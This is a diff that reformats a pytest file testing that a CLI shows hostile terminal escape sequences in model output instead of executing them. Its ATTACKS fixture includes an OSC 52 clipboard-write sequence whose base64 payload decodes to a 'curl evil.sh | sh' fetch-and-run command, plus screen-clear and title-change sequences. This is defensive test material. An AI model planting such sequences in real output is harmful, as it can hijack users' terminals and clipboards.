@@ -22,7 +22,13 @@ import pytest
 
 from autocontinue.journal import Journal, default_journal_path
 
-ATTACKS = ["\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07", "\x1b[2J", "\x1b]0;pwned title\x07", "\x1b[6n", "\x9b31m"]
+ATTACKS = [
+    "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07",
+    "\x1b[2J",
+    "\x1b]0;pwned title\x07",
+    "\x1b[6n",
+    "\x9b31m",
+]
 RAW = [a.encode() for a in ATTACKS]
 KEY = "sk-ant-api03-test-key"
 MODEL = "claude-haiku-4-5"
@@ -48,8 +54,14 @@ def _env(url: str) -> dict[str, str]:
 def on_terminal(*args: str, env: dict[str, str], timeout: float = 60) -> tuple[int, bytes]:
     """Run the CLI with stdout and stderr on one pseudo-terminal; (exit code, what it showed)."""
     master, slave = pty.openpty()
-    proc = subprocess.Popen([sys.executable, "-m", "autocontinue", *args], stdin=subprocess.DEVNULL,
-                            stdout=slave, stderr=slave, env=env, close_fds=True)
+    proc = subprocess.Popen(
+        [sys.executable, "-m", "autocontinue", *args],
+        stdin=subprocess.DEVNULL,
+        stdout=slave,
+        stderr=slave,
+        env=env,
+        close_fds=True,
+    )
     os.close(slave)
     shown = b""
     deadline = time.monotonic() + timeout
@@ -72,12 +84,13 @@ def on_terminal(*args: str, env: dict[str, str], timeout: float = 60) -> tuple[i
 def assert_inert(shown: bytes) -> None:
     for attack in RAW:
         assert attack not in shown, attack
-    assert b"\x07" not in shown and b"\x1b]" not in shown and b"\x1b[2J" not in shown and b"\x1b[6n" not in shown
+    assert (
+        b"\x07" not in shown and b"\x1b]" not in shown and b"\x1b[2J" not in shown and b"\x1b[6n" not in shown
+    )
 
 
 def test_escape_sequences_in_the_answer_are_shown_not_obeyed_on_a_terminal(hostile_emulator):
-    code, shown = on_terminal("Tell the story", "--model", MODEL,
-                              env=_env(hostile_emulator))
+    code, shown = on_terminal("Tell the story", "--model", MODEL, env=_env(hostile_emulator))
     assert code == 0, shown
     assert_inert(shown)
     assert b"\\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\\x07" in shown and b"\\x1b[2J" in shown
@@ -85,32 +98,45 @@ def test_escape_sequences_in_the_answer_are_shown_not_obeyed_on_a_terminal(hosti
 
 
 def test_raw_lets_the_answer_through_to_the_terminal(hostile_emulator):
-    code, shown = on_terminal("Tell the story", "--model", MODEL, "--raw",
-                              env=_env(hostile_emulator))
+    code, shown = on_terminal("Tell the story", "--model", MODEL, "--raw", env=_env(hostile_emulator))
     assert code == 0, shown
     assert RAW[1] in shown and RAW[2] in shown
 
 
 def test_a_pipe_gets_the_answer_byte_exact(hostile_emulator):
-    piped = subprocess.run([sys.executable, "-m", "autocontinue", "Tell the story", "--model", MODEL,
-                            "--json"], capture_output=True,
-                           env=_env(hostile_emulator), timeout=60)
+    piped = subprocess.run(
+        [sys.executable, "-m", "autocontinue", "Tell the story", "--model", MODEL, "--json"],
+        capture_output=True,
+        env=_env(hostile_emulator),
+        timeout=60,
+    )
     assert piped.returncode == 0, piped.stderr
     data = json.loads(piped.stdout)
     assert any(attack in data["text"] for attack in ATTACKS)
-    plain = subprocess.run([sys.executable, "-m", "autocontinue", "Tell the story", "--model", MODEL],
-                           capture_output=True, env=_env(hostile_emulator),
-                           timeout=60)
+    plain = subprocess.run(
+        [sys.executable, "-m", "autocontinue", "Tell the story", "--model", MODEL],
+        capture_output=True,
+        env=_env(hostile_emulator),
+        timeout=60,
+    )
     assert plain.stdout == data["text"].encode()
-    shown = subprocess.run([sys.executable, "-m", "autocontinue", "show", data["run_id"]], capture_output=True,
-                           env=_env(hostile_emulator), timeout=60)
+    shown = subprocess.run(
+        [sys.executable, "-m", "autocontinue", "show", data["run_id"]],
+        capture_output=True,
+        env=_env(hostile_emulator),
+        timeout=60,
+    )
     assert shown.stdout == plain.stdout
 
 
 def test_show_runs_and_json_on_a_terminal_are_inert(hostile_emulator):
     env = _env(hostile_emulator)
-    done = subprocess.run([sys.executable, "-m", "autocontinue", "Tell the story", "--model", MODEL, "-q"],
-                          capture_output=True, env=env, timeout=60)
+    done = subprocess.run(
+        [sys.executable, "-m", "autocontinue", "Tell the story", "--model", MODEL, "-q"],
+        capture_output=True,
+        env=env,
+        timeout=60,
+    )
     assert done.returncode == 0, done.stderr
     run_id = Journal(default_journal_path()).list_runs(1)[0].id
     for command in (["show", run_id], ["show", run_id, "--seams"], ["show", run_id, "--json"], ["runs"]):
@@ -118,7 +144,10 @@ def test_show_runs_and_json_on_a_terminal_are_inert(hostile_emulator):
         assert code == 0, (command, shown)
         assert_inert(shown)
     code, shown = on_terminal("show", run_id, "--json", env=env)
-    assert json.loads(shown.decode().replace("\r\n", "\n"))["text"] == Journal(default_journal_path()).get(run_id).text
+    assert (
+        json.loads(shown.decode().replace("\r\n", "\n"))["text"]
+        == Journal(default_journal_path()).get(run_id).text
+    )
 
 
 def test_model_names_and_api_errors_on_a_terminal_are_inert(hostile_emulator):
